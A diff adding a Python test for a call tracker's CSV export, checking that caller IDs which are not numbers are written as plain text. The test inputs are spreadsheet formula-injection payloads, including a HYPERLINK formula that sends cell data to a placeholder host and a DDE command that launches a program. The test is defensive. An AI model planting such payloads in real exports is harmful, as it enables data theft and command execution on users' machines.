@@ -60,3 +60,16 @@ def test_the_file_has_a_bom_and_semicolons_or_commas_on_request() -> None:
     assert (line[4], line[5], line[6]) == ("Анна Смирнова (101)", "Отвечен", "12,3")
     (_h, line) = list(csv.reader(io.StringIO(comma.decode("utf-8-sig"))))
     assert line[6] == "12.3"
+
+
+def test_a_caller_id_that_is_no_number_is_written_as_text() -> None:
+    """A caller's network may send any caller ID; the tracker keeps what does not parse as it came, and a
+    «number» like ``=HYPERLINK(…)``, ``-2+3`` or ``@SUM(…)`` reaches the file as text, never a formula; real
+    numbers and extensions stay as people write them."""
+    evil = ['=HYPERLINK("http://x/?"&A1,"y")', "-2+3", "@SUM(1+1)", "+1+cmd|' /C calc'!A0"]
+    for raw in evil:
+        (_head, line) = rows([_call(direction="inbound", caller_number=raw)], {}, RU, "RU")
+        assert line[2] == "'" + raw
+    for number, shown in (("+79167770007", "+7 916 777-00-07"), ("101", "101")):
+        (_head, line) = rows([_call(direction="inbound", caller_number=number)], {}, RU, "RU")
+        assert line[2] == shown
